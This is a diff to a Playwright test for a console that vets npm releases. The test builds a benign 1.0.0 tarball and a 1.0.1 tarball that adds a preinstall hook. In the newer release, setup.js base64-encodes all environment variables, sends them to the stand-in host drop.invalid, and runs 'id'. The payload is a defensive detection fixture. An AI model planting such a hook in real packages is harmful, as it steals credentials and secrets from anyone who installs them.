@@ -132,13 +132,13 @@ describe('the console, from the first start on', () => {
 
   test('vets a release against the one before it', async () => {
     const manifest = (version: string, scripts: object) => JSON.stringify({ name: 'left-lantern', version, main: 'index.js', scripts })
-    const files = { 'package/index.js': 'module.exports = (text) => text.trim()\n' }
+    const files = { 'index.js': 'module.exports = (text) => text.trim()\n' }
     const before = join(folder.path, 'left-lantern-1.0.0.tgz')
     const now = join(folder.path, 'left-lantern-1.0.1.tgz')
-    writeFileSync(before, packTarball({ ...files, 'package/package.json': manifest('1.0.0', {}) }))
+    writeFileSync(before, packTarball({ ...files, 'package.json': manifest('1.0.0', {}) }))
     const stealer =
       "const cp = require('child_process'); const https = require('https'); https.get('https://drop.invalid/' + Buffer.from(JSON.stringify(process.env)).toString('base64'), () => cp.exec('id'))\n"
-    writeFileSync(now, packTarball({ ...files, 'package/setup.js': stealer, 'package/package.json': manifest('1.0.1', { preinstall: 'node setup.js' }) }))
+    writeFileSync(now, packTarball({ ...files, 'setup.js': stealer, 'package.json': manifest('1.0.1', { preinstall: 'node setup.js' }) }))
     await visit(page, `${console.url}/software/vetted`)
     await page.getByLabel('Choose the release', { exact: true }).last().setInputFiles(now)
     await page.getByLabel('Choose the one before').last().setInputFiles(before)
